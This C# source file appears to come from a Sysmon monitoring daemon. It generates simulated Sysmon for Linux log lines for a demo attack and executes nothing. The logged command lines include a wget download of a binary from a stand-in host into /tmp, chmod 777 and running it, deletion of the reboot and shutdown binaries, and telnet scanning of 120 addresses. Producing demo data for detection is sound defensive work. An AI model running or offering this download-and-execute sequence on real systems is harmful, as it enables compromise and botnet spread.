using System.Globalization;
using System.Net;
using System.Security;
using System.Text;

namespace SysmonWatch.Daemon.Commands.Service;

/// <summary>
/// A short attack as Sysmon for Linux would log it: someone logs in, fetches a program to /tmp, and it deletes what could reboot the machine and
/// connects to a hundred addresses and more. Nothing of it happens; only its lines are written.
/// </summary>
/// <param name="time">Gives the lines their times.</param>
sealed class DemoAttack(TimeProvider time)
{
    const string Host = "demo-host";
    const int SysmonProcessId = 538;
    ulong _recordId = 100;

    /// <summary>The lines in order, each with how long to wait before it is written.</summary>
    public IEnumerable<(TimeSpan Wait, string Line)> Lines()
    {
        yield return (Seconds(0.3), Start(2001, "/usr/bin/bash", "-bash", (1999, "/usr/sbin/sshd", "sshd: root@pts/0")));
        yield return (Seconds(0.5), Start(2002, "/usr/bin/id", "id", (2001, "/usr/bin/bash", "-bash")));
        yield return (Seconds(0.7), Start(2003, "/usr/bin/wget", "wget -q http://198.51.100.7/mips.x86 -O /tmp/.kw3f", (2001, "/usr/bin/bash", "-bash")));
        yield return (Seconds(0.1), Connect(2003, "/usr/bin/wget", IPAddress.Parse("198.51.100.7"), 80));
        yield return (Seconds(0.4), Start(2004, "/usr/bin/chmod", "chmod 777 /tmp/.kw3f", (2001, "/usr/bin/bash", "-bash")));
        yield return (Seconds(0.5), Start(2005, "/tmp/.kw3f", "./.kw3f 120", (2001, "/usr/bin/bash", "-bash")));
        foreach (string program in (string[])["reboot", "shutdown", "halt", "poweroff"])
        {
            yield return (Seconds(0.05), Delete(2005, "/tmp/.kw3f", $"/sbin/{program}"));
        }
        for (int i = 1; i <= 120; i++)
        {
            yield return (Seconds(0.02), Connect(2005, "/tmp/.kw3f", new IPAddress([203, 0, 113, (byte)i]), 23));
        }
    }

    string Start(int id, string image, string commandLine, (int Id, string Image, string CommandLine) parent) => Line(
        1,
        ("RuleName", "-"), ("UtcTime", Utc()), ("ProcessGuid", Guid(id)), ("ProcessId", Text(id)), ("Image", image), ("FileVersion", "-"),
        ("Description", "-"), ("Product", "-"), ("Company", "-"), ("OriginalFileName", "-"), ("CommandLine", commandLine),
        ("CurrentDirectory", "/tmp"), ("User", "root"), ("LogonGuid", Guid(0)), ("LogonId", "0"), ("TerminalSessionId", "3"),
        ("IntegrityLevel", "no level"), ("Hashes", "-"), ("ParentProcessGuid", Guid(parent.Id)), ("ParentProcessId", Text(parent.Id)),
        ("ParentImage", parent.Image), ("ParentCommandLine", parent.CommandLine), ("ParentUser", "root"));

    string Delete(int id, string image, string path) => Line(
        23,
        ("RuleName", "-"), ("UtcTime", Utc()), ("ProcessGuid", Guid(id)), ("ProcessId", Text(id)), ("User", "-"), ("Image", image),
        ("TargetFilename", path), ("Hashes", "-"), ("IsExecutable", "-"), ("Archived", "-"));

    string Connect(int id, string image, IPAddress address, int port) => Line(
        3,
        ("RuleName", "-"), ("UtcTime", Utc()), ("ProcessGuid", Guid(id)), ("ProcessId", Text(id)), ("Image", image), ("User", "root"),
        ("Protocol", "tcp"), ("Initiated", "true"), ("SourceIsIpv6", "false"), ("SourceIp", "192.0.2.10"), ("SourceHostname", "-"),
        ("SourcePort", Text(40_000 + (int)(_recordId % 20_000))), ("SourcePortName", "-"), ("DestinationIsIpv6", "false"),
        ("DestinationIp", address.ToString()), ("DestinationHostname", "-"), ("DestinationPort", Text(port)), ("DestinationPortName", "-"));

    string Line(int eventId, params ReadOnlySpan<(string Name, string Value)> fields)
    {
        DateTimeOffset now = time.GetUtcNow();
        var line = new StringBuilder();
        line.Append(CultureInfo.InvariantCulture, $"{now:yyyy-MM-dd'T'HH:mm:ss.ffffff}+00:00 {Host} sysmon: <Event><System>");
        line.Append("<Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/>");
        line.Append(CultureInfo.InvariantCulture, $"<EventID>{eventId}</EventID><Version>5</Version><Level>4</Level><Task>{eventId}</Task><Opcode>0</Opcode>");
        line.Append(CultureInfo.InvariantCulture, $"<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"{now:yyyy-MM-dd'T'HH:mm:ss.ffffff}000Z\"/>");
        line.Append(CultureInfo.InvariantCulture, $"<EventRecordID>{_recordId++}</EventRecordID><Correlation/>");
        line.Append(CultureInfo.InvariantCulture, $"<Execution ProcessID=\"{SysmonProcessId}\" ThreadID=\"{SysmonProcessId}\"/>");
        line.Append(CultureInfo.InvariantCulture, $"<Channel>Linux-Sysmon/Operational</Channel><Computer>{Host}</Computer><Security UserId=\"0\"/></System><EventData>");
        foreach ((string name, string value) in fields)
        {
            line.Append(CultureInfo.InvariantCulture, $"<Data Name=\"{name}\">{SecurityElement.Escape(value)}</Data>");
        }
        return line.Append("</EventData></Event>").ToString();
    }

    string Utc() => time.GetUtcNow().ToString("yyyy-MM-dd HH:mm:ss.fff", CultureInfo.InvariantCulture);

    static string Guid(int id) => $"{{5f2c9a71-0000-0000-0000-{id:x12}}}";

    static string Text(int number) => number.ToString(CultureInfo.InvariantCulture);

    static TimeSpan Seconds(double seconds) => TimeSpan.FromSeconds(seconds);
}
